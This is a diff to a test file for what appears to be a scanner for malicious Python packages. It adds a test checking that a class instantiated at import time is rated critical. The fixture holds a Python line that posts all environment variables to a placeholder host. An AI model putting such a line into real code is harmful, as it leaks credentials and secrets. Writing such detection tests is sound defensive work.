@@ -60,6 +60,16 @@ test.each([
   expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': METHOD })).toContain('critical');
 });
 
+const BASE = 'import os\nimport requests\n\n\nclass Watch:\n    def __init__(self):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n';
+const HEIR = 'from ._watch import Watch\n\n\nclass Bed(Watch):\n    pass\n';
+
+test('a class runs on import when one that inherits from it is made there, and not when one is only defined', async () => {
+  const files = { 'plot/__init__.py': 'from .bed import Bed\n', 'plot/bed.py': HEIR, 'plot/_watch.py': BASE };
+  expect(await found(files)).toEqual(['low']);
+  expect(await found({ ...files, 'plot/bed.py': `${HEIR}\n\nbed = Bed()\n` })).toContain('critical');
+  expect(await found({ ...files, 'plot/__init__.py': 'from .bed import Bed\n\nbed = Bed()\n' })).toContain('critical');
+});
+
 test.each([
   ['examples', { 'plot/__init__.py': '', 'plot/examples/show.py': 'from plot._watch import report\n\nreport()\n' }],
   ['a module that no __init__ imports', { 'plot/__init__.py': '', 'plot/server.py': 'from ._watch import report\n\nreport()\n' }],
